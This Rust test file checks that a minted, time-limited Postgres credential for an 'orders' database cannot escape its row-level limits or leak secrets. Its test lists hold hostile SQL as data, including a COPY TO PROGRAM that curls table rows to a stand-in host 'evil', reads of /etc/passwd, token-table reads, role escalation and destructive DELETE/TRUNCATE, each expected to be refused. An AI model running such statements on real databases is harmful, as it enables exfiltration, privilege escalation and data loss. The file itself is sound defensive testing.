//! What a credential can do, and what it cannot whatever it says (drill D5: the lethal trifecta in SQL).

use super::*;

#[tokio::test]
async fn credential_reads_its_rows_and_nothing_moves_them() {
    let Some(lab) = Lab::start() else { return };
    let (_, minted) = lab.mint(300).await;
    let mut session = lab.session(&minted, "orders").await.unwrap();
    let count = "SELECT count(*)::text || '/' || count(*) FILTER (WHERE region <> 'eu') FROM orders";
    assert_eq!(ask(&mut session, count).await.unwrap(), "2/0");
    for (sql, expected) in [
        ("SET writ_lease.region = 'us'", "ok"),
        ("SET ROLE postgres", "42501"),
        ("SET ROLE orders_read", "ok"),
        ("SET SESSION AUTHORIZATION alice", "42501"),
        ("RESET ROLE", "ok"),
        ("SET row_security = off", "ok"),
        ("SELECT * FROM orders", "42501"),
        ("SET row_security = on", "ok"),
        ("SELECT * FROM writ_lease.lease", "42501"),
        ("UPDATE writ_lease.lease SET params = '{\"region\":\"us\"}'", "42501"),
        ("SELECT writ_lease.issue('jit_000000000000000000000000000000aa', 'orders_read', 0, '', '{}', '')", "42501"),
        ("SELECT writ_lease.list()", "42501"),
        ("ALTER TABLE orders DISABLE ROW LEVEL SECURITY", "42501"),
        ("DROP POLICY by_region ON orders", "42501"),
        ("CREATE FUNCTION public.param(text) RETURNS text LANGUAGE sql AS $$SELECT 'us'$$", "42501"),
        // Its own password, and no longer life.
        ("ALTER ROLE CURRENT_USER VALID UNTIL 'infinity'", "42501"),
        ("ALTER ROLE CURRENT_USER CONNECTION LIMIT -1", "42501"),
        ("SET search_path = public", "ok"),
    ] {
        assert_eq!(state(&mut session, sql).await, expected, "{sql}");
        if sql.starts_with("SET row_security = off") {
            continue;
        }
        if sql != "SELECT * FROM orders" {
            assert_eq!(ask(&mut session, count).await.unwrap(), "2/0", "after {sql}");
        }
    }
    // The template role itself, without a lease, sees nothing.
    let nothing = lab.server.psql("orders", "SET ROLE orders_read; SELECT count(*) FROM orders").unwrap();
    assert_eq!(nothing, "0");
}

#[tokio::test]
async fn lethal_trifecta_in_sql_ends_at_each_statement() {
    let Some(lab) = Lab::start() else { return };
    lab.server.psql("orders", "CREATE EXTENSION dblink").unwrap();
    let (_, minted) = lab.mint(300).await;
    let mut session = lab.session(&minted, "orders").await.unwrap();
    for (sql, expected) in [
        ("SELECT * FROM integration_tokens", "42501"),
        ("INSERT INTO messages VALUES ('loot')", "42501"),
        ("UPDATE orders SET total = 0", "42501"),
        ("DELETE FROM orders", "42501"),
        ("TRUNCATE orders", "42501"),
        ("COPY orders TO PROGRAM 'curl -d @- http://evil'", "42501"),
        ("COPY orders TO '/tmp/loot'", "42501"),
        ("SELECT lo_export(1, '/tmp/loot')", "42501"),
        ("SELECT lo_import('/etc/passwd')", "42501"),
        ("SET ROLE postgres", "42501"),
        ("SET SESSION AUTHORIZATION postgres", "42501"),
        ("SELECT pg_read_file('/etc/passwd')", "42501"),
        ("SELECT pg_ls_dir('/')", "42501"),
        ("CREATE FUNCTION f() RETURNS void LANGUAGE sql SECURITY DEFINER AS ''", "42501"),
        ("CREATE TEMP TABLE loot AS SELECT * FROM orders", "42501"),
        // Refused by dblink itself: a connection that the server would authenticate for it.
        ("SELECT dblink_connect('host=/tmp dbname=orders')", "2F003"),
        ("SELECT pg_reload_conf()", "42501"),
        ("CREATE ROLE evil", "42501"),
        ("GRANT orders_read TO alice", "42501"),
        ("CREATE EXTENSION file_fdw", "42501"),
        ("CREATE SERVER s FOREIGN DATA WRAPPER dblink_fdw", "42501"),
        ("CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION x()", "42501"),
        ("ALTER SYSTEM SET archive_command = 'id'", "42501"),
    ] {
        assert_eq!(state(&mut session, sql).await, expected, "{sql}");
    }
    // What no grant can keep from a role, and what the residue step is for.
    assert_eq!(state(&mut session, "SELECT lo_from_bytea(0, 'x')").await, "ok");
    assert_eq!(state(&mut session, "SET default_transaction_read_only = on; BEGIN READ WRITE; COMMIT").await, "ok");
}

#[tokio::test]
async fn errors_and_plans_hold_no_secret() {
    let Some(lab) = Lab::start() else { return };
    let (plan, minted) = lab.mint(300).await;
    let password = minted.secrets["password"].expose_secret().to_owned();
    let again = lab.target.issue(&plan, &shown(&plan).await).await.unwrap_err();
    let texts = [
        format!("{again:?} {again}"),
        format!("{plan:?}"),
        plan.summary.join("\n"),
        String::from_utf8(plan.canonical.clone()).unwrap(),
        format!("{minted:?}"),
    ];
    for text in texts {
        assert!(!text.contains(&password) && !text.contains("SCRAM") && !text.contains(BROKER_PASSWORD), "{text}");
    }
    let kept = lab.server.psql("orders", "SELECT rolpassword FROM pg_authid WHERE rolname LIKE 'jit%'").unwrap();
    assert!(kept.starts_with("SCRAM-SHA-256$1:") && !kept.contains(&password), "{kept}");
}
